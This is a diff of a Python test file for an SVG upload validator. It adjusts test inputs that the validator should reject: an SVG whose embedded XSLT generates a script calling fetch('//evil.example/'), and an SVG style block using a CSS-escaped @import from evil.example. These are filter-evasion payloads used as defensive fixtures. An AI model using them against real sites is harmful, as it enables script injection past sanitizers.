@@ -399,11 +399,11 @@ def test_card_text_made_to_make_our_own_patterns_backtrack_builds_quickly(tmp_pa
 # -- issue 28, findings 6 and 7: one reading of text for the checks and for what renders it ------------
 
 SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
-XSLT = (
+XSLT = (  # the stylesheet makes an HTML <script> by <x:element>: the SVG itself holds no script element
     '<?xml version="1.0" encoding="UTF-16"?>\n<?xml-stylesheet type="text/xsl" href="#x"?>\n'
     f'<svg {SVG_NS}><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" id="x" version="1.0">'
-    '<x:template match="/"><h:script xmlns:h="http://www.w3.org/1999/xhtml">fetch("//evil.example/")'
-    "</h:script></x:template></x:stylesheet></svg>"
+    '<x:template match="/"><x:element name="script" namespace="http://www.w3.org/1999/xhtml">'
+    'fetch("//evil.example/")</x:element></x:template></x:stylesheet></svg>'
 )
 
 
@@ -415,7 +415,7 @@ XSLT = (
             "it is not UTF-8 (it starts with a UTF-16 or UTF-32 byte order mark): save it as UTF-8",
         ),
         (
-            f"<svg {SVG_NS}><style>@\\69mport url(//evil.example/x.css);</style><rect/></svg>".encode(),
+            f"<svg {SVG_NS}><style>@\\69mport '//evil.example/x.css';</style><rect/></svg>".encode(),
             "its stylesheet has a CSS escape ('\\'): write the characters themselves",
         ),
     ],
